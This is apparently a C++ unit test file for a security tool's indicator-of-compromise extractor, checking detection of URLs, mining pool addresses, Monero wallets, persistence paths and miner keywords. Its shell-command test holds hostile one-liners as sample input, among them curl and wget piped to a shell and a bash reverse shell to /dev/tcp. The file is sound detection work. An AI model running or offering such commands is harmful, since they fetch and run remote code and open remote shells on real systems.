// The indicator extractor on crafted strings: what it must find, and the
// near misses it must not report.
#include "respond/indicators.hpp"

#include <gtest/gtest.h>

#include <algorithm>
#include <string>
#include <vector>

namespace bulwark::respond {
namespace {

std::vector<Ioc> Find(const std::string& text) {
  std::vector<Ioc> out;
  FindIndicators(text, 0, out);
  return out;
}

std::vector<std::string> Values(const std::string& text, IocKind kind) {
  std::vector<std::string> out;
  for (const auto& ioc : Find(text)) {
    if (ioc.kind == kind) out.push_back(ioc.value);
  }
  return out;
}

std::string TagOf(const std::string& text, IocKind kind) {
  for (const auto& ioc : Find(text)) {
    if (ioc.kind == kind) return ioc.tag;
  }
  return "<none>";
}

using V = std::vector<std::string>;

TEST(Indicators, Urls) {
  EXPECT_EQ(Values("see https://evil.example.com/x.sh now", IocKind::kUrl), V{"https://evil.example.com/x.sh"});
  EXPECT_EQ(Values("GET \"http://10.0.0.5:8080/a\"", IocKind::kUrl), V{"http://10.0.0.5:8080/a"});
  EXPECT_TRUE(Values("http:// alone", IocKind::kUrl).empty());
  EXPECT_TRUE(Values("stratum+tcp://pool.example.com:3333", IocKind::kUrl).empty());  // a stratum URL, not a URL
}

TEST(Indicators, StratumUrls) {
  EXPECT_EQ(Values("-o stratum+tcp://pool.minexmr.com:4444 -u x", IocKind::kStratumUrl),
            V{"stratum+tcp://pool.minexmr.com:4444"});
  EXPECT_EQ(Values("STRATUM+SSL://127.0.0.1:3333", IocKind::kStratumUrl), V{"STRATUM+SSL://127.0.0.1:3333"});
  EXPECT_TRUE(Values("stratum protocol", IocKind::kStratumUrl).empty());
  EXPECT_TRUE(Values("stratum+tcp://", IocKind::kStratumUrl).empty());
}

TEST(Indicators, Ipv4WithPorts) {
  EXPECT_EQ(Values("connect 45.9.148.10:3333 now", IocKind::kIpv4), V{"45.9.148.10:3333"});
  EXPECT_EQ(Values("host=192.168.1.20", IocKind::kIpv4), V{"192.168.1.20"});
  EXPECT_EQ(Values("at 8.8.8.8.", IocKind::kIpv4), V{"8.8.8.8"});  // sentence end
  EXPECT_EQ(Values("1.2.3.4:99999", IocKind::kIpv4), V{"1.2.3.4"});  // not a port
  // Near misses.
  EXPECT_TRUE(Values("version 1.2.3", IocKind::kIpv4).empty());
  EXPECT_TRUE(Values("256.1.1.1", IocKind::kIpv4).empty());
  EXPECT_TRUE(Values("1.2.3.4.5", IocKind::kIpv4).empty());
  EXPECT_TRUE(Values("v1.2.3.4", IocKind::kIpv4).empty());
  EXPECT_TRUE(Values("GLIBC_2.2.5.1", IocKind::kIpv4).empty());
  EXPECT_TRUE(Values("01.02.03.04", IocKind::kIpv4).empty());
  EXPECT_TRUE(Values("0.0.0.0", IocKind::kIpv4).empty());
}

TEST(Indicators, DomainsAreConservative) {
  EXPECT_EQ(Values("resolve pool.supportxmr.com please", IocKind::kDomain), V{"pool.supportxmr.com"});
  EXPECT_EQ(Values("http://c2.bad.ru/x", IocKind::kDomain), V{"c2.bad.ru"});
  EXPECT_TRUE(Values("libc.so.6", IocKind::kDomain).empty());
  EXPECT_TRUE(Values("config.json main.go", IocKind::kDomain).empty());
  EXPECT_TRUE(Values("java.lang.String.Com", IocKind::kDomain).empty());
  EXPECT_TRUE(Values("/usr/lib/foo.com", IocKind::kDomain).empty());
  EXPECT_TRUE(Values("user@example.com", IocKind::kDomain).empty());
  EXPECT_TRUE(Values("1.2.3.com", IocKind::kDomain).empty());  // no letter outside the TLD label
}

TEST(Indicators, MoneroWallets) {
  const std::string wallet =
      "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A";
  ASSERT_EQ(wallet.size(), 95u);
  EXPECT_EQ(Values("-u " + wallet + " -p x", IocKind::kWallet), V{wallet});
  EXPECT_TRUE(Values(wallet.substr(0, 94), IocKind::kWallet).empty());      // too short
  EXPECT_TRUE(Values(wallet + "A", IocKind::kWallet).empty());              // too long
  EXPECT_TRUE(Values("5" + wallet.substr(1), IocKind::kWallet).empty());    // wrong network byte
  EXPECT_TRUE(Values("4C" + wallet.substr(2), IocKind::kWallet).empty());   // second char not [0-9AB]
  EXPECT_TRUE(Values(wallet.substr(0, 50) + "0" + wallet.substr(51), IocKind::kWallet).empty());  // '0' not base58
}

TEST(Indicators, PathsAreTagged) {
  EXPECT_EQ(TagOf("echo x >> /etc/ld.so.preload", IocKind::kPath), "persistence:ld.so.preload");
  EXPECT_EQ(TagOf("/etc/cron.d/miner", IocKind::kPath), "persistence:cron");
  EXPECT_EQ(TagOf("/var/spool/cron/crontabs/root", IocKind::kPath), "persistence:cron");
  EXPECT_EQ(TagOf("/etc/profile.d/x.sh", IocKind::kPath), "persistence:profile");
  EXPECT_EQ(TagOf("/root/.bashrc", IocKind::kPath), "persistence:profile");
  EXPECT_EQ(TagOf("/etc/systemd/system/x.service", IocKind::kPath), "persistence:systemd");
  EXPECT_EQ(TagOf("open /etc/shadow", IocKind::kPath), "sensitive:credentials");
  EXPECT_EQ(TagOf("/var/run/docker.sock", IocKind::kPath), "sensitive:docker.sock");
  EXPECT_EQ(TagOf("/dev/cpu/0/msr", IocKind::kPath), "miner:msr");
  EXPECT_EQ(TagOf("/usr/share/locale", IocKind::kPath), "");
  EXPECT_EQ(Values("docker.sock: the engine answered", IocKind::kPath), V{"docker.sock"});  // no path left
  EXPECT_EQ(Values("/run/docker.sock", IocKind::kPath), V{"/run/docker.sock"});            // not twice
  EXPECT_EQ(TagOf("/etc/passwd-like/not", IocKind::kPath), "");
  EXPECT_EQ(TagOf("a/b/c", IocKind::kPath), "<none>");  // relative
  EXPECT_EQ(TagOf("/x", IocKind::kPath), "<none>");     // one component
}

TEST(Indicators, ShellCommands) {
  EXPECT_EQ(TagOf("curl -s http://x.example.com/i.sh | sh", IocKind::kShellCommand), "download-and-run");
  EXPECT_EQ(TagOf("wget -q -O- http://1.2.3.4/x|bash", IocKind::kShellCommand), "download-and-run");
  EXPECT_EQ(TagOf("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", IocKind::kShellCommand), "reverse-shell");
  EXPECT_EQ(TagOf("echo aGkK | base64 -d | sh", IocKind::kShellCommand), "shell");  // no fetch
  EXPECT_EQ(TagOf("crontab -l", IocKind::kShellCommand), "persistence:cron");
  EXPECT_EQ(TagOf("chmod +x /tmp/.x", IocKind::kShellCommand), "make-executable");
  EXPECT_EQ(TagOf("usage: curling stones", IocKind::kShellCommand), "<none>");
  EXPECT_EQ(TagOf("the shell is a program", IocKind::kShellCommand), "<none>");
}

TEST(Indicators, MinerWords) {
  EXPECT_EQ(Values("XMRig/6.21 --donate-level=1 RandomX", IocKind::kMinerWord),
            (V{"xmrig", "--donate-level", "randomx"}));
  EXPECT_EQ(Values("echo 1280 > /proc/sys/vm/nr_hugepages", IocKind::kMinerWord), V{"nr_hugepages"});
  EXPECT_EQ(Values("wrmsr /dev/cpu/3/msr", IocKind::kMinerWord), V{"/dev/cpu/*/msr"});
  EXPECT_TRUE(Values("/dev/cpu/0/cpuid", IocKind::kMinerWord).empty());
  EXPECT_TRUE(Values("random xylophone", IocKind::kMinerWord).empty());
}

TEST(Indicators, StringsAndDedup) {
  // Appended piece by piece: GCC 12 warns falsely (-Warray-bounds) on a
  // chain of operator+ over temporaries.
  std::string blob("ab\0\0xmrig-6.21\0short\0", 21);
  blob += "stratum+tcp://p.example.com:1";
  blob.append("\x01\x02", 2);
  blob += "xmrig-6.21";
  StringsSummary summary;
  auto strings = ExtractStrings({reinterpret_cast<const uint8_t*>(blob.data()), blob.size()}, summary);
  ASSERT_EQ(strings.size(), 3u);  // "ab" and "short" are under 6
  EXPECT_EQ(strings[0].text, "xmrig-6.21");
  EXPECT_EQ(strings[0].offset, 4u);
  auto iocs = ExtractIndicators(strings);
  auto miner = std::count_if(iocs.begin(), iocs.end(), [](const Ioc& i) { return i.kind == IocKind::kMinerWord; });
  EXPECT_EQ(miner, 1);  // the same word twice is reported once
}

TEST(Indicators, StringsAreBounded) {
  std::string blob;
  for (size_t i = 0; i < kMaxStrings + 10; ++i) blob += std::string("abcdef") + '\0';
  StringsSummary summary;
  auto strings = ExtractStrings({reinterpret_cast<const uint8_t*>(blob.data()), blob.size()}, summary);
  EXPECT_EQ(strings.size(), kMaxStrings);
  EXPECT_TRUE(summary.truncated);
  std::string long_run(kMaxStringLength * 3, 'a');
  strings = ExtractStrings({reinterpret_cast<const uint8_t*>(long_run.data()), long_run.size()}, summary);
  ASSERT_EQ(strings.size(), 1u);
  EXPECT_EQ(strings[0].text.size(), kMaxStringLength);
}

}  // namespace
}  // namespace bulwark::respond
